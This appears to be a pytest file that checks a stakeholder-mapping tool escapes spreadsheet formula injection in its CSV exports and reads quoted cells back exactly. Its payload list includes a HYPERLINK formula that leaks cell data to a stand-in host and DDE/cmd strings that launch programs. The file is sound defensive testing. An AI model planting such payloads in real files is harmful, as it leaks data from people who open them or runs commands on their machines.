"""Every CSV we write is safe to open in a spreadsheet, and our import reads it back exactly.

Names, tags and notes come from workshops and imported files; written unchanged, a cell
like ``=HYPERLINK("http://x.example/?leak="&A1,"click")`` runs as a formula in Excel.
"""

from __future__ import annotations

import csv
import dataclasses
from pathlib import Path

import pytest

from stakeholder_mapper.cli import main
from stakeholder_mapper.core.model import Relationship, Stakeholder, StakeholderMap
from stakeholder_mapper.io.csv_safety import FORMULA_STARTS, quote_formula, unquote_formula
from stakeholder_mapper.io.project import save_map
from stakeholder_mapper.io.table_export import export_csv
from stakeholder_mapper.io.table_import import import_tables

PAYLOADS = [
    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted by someone",
    "''@twice",
    "'plain quote stays",
    "-",
]


def _hostile_map() -> StakeholderMap:
    """Every payload in names, tags, notes and a custom attribute.

    Names and tags are trimmed on import (a rule of their own), so they carry the
    payloads without leading tab or carriage return; notes and attributes carry all.
    """
    smap = StakeholderMap()
    for i, payload in enumerate(PAYLOADS):
        sid = f"s{i}"
        smap.stakeholders[sid] = Stakeholder(
            sid,
            payload.strip(),
            "media",
            organisation=payload.strip(),
            tags=(payload.strip(), "ok"),
            notes=payload,
            position=-2,
            trust=-1,
            person=f"Person {i}",
            attributes={"district": payload},
        )
        smap.positions[sid] = (-120.5, -3.0)
    smap.relationships["r1"] = Relationship("r1", "s0", "s1", notes=PAYLOADS[1])
    return smap


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("level", ["full", "partner"])
def test_no_written_cell_starts_like_a_formula(tmp_path: Path, level: str) -> None:
    written = export_csv(_hostile_map(), tmp_path / "city.csv", level=level)
    assert len(written) == 3
    for path in written:
        rows = _cells(path)
        header = rows[0]
        for row in rows:
            for column, cell in zip(header, row, strict=True):
                # Only a genuine number may start with "-" (or "+").
                assert cell[:1] not in FORMULA_STARTS or _is_number(cell), (path.name, column)
    stakeholders = _cells(written[0])
    header = stakeholders[0]
    first = dict(zip(header, stakeholders[1], strict=True))
    # Genuine negative numbers stay numbers a spreadsheet can add up.
    assert (first["x"], first["y"]) == ("-120.5", "-3.0")
    assert first["name"] == "'" + PAYLOADS[0]
    assert first["organisation"] == "'" + PAYLOADS[0]
    if level == "full":  # a Partner export shows no attitude
        assert (first["position"], first["trust"]) == ("-2", "-1")


def test_quoted_cells_read_back_as_they_were(tmp_path: Path) -> None:
    smap = _hostile_map()
    written = export_csv(smap, tmp_path / "city.csv")
    back, _ = import_tables(*written[:2])
    assert back.stakeholders == smap.stakeholders
    assert back.relationships == smap.relationships
    assert back.positions == smap.positions


@pytest.mark.parametrize("text", [*PAYLOADS, "", "'", "''", "plain", "=", "'-"])
def test_quoting_is_undone_exactly(text: str) -> None:
    cell = quote_formula(text, text)
    assert cell[:1] not in FORMULA_STARTS
    assert unquote_formula(cell) == text


def test_numbers_dates_and_booleans_are_never_quoted() -> None:
    for value, text in ((-2, "-2"), (-0.5, "-0.5"), (False, "false")):
        assert quote_formula(value, text) == text


def test_metrics_csv_of_the_command_line_is_quoted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    smap = _hostile_map()
    smap.stakeholders["s2"] = dataclasses.replace(smap.stakeholders["s2"], category="municipal")
    save_map(smap, tmp_path / "city.smap")
    assert main(["metrics", str(tmp_path / "city.smap"), "-o", str(tmp_path / "m.csv")]) == 0
    rows = _cells(tmp_path / "m.csv")
    header = rows[0]
    names = [dict(zip(header, row, strict=True))["name"] for row in rows[1:]]
    assert names[0] == "'" + PAYLOADS[0]
    assert all(n[:1] not in FORMULA_STARTS for n in names)
    z_scores = [float(row[header.index("gf_total_z")] or 0) for row in rows[1:]]
    assert z_scores  # numeric columns still read as numbers
    capsys.readouterr()
    assert main(["metrics", str(tmp_path / "city.smap")]) == 0  # to the terminal
    printed = list(csv.reader(capsys.readouterr().out.splitlines()))
    assert printed[1][1] == "'" + PAYLOADS[0]
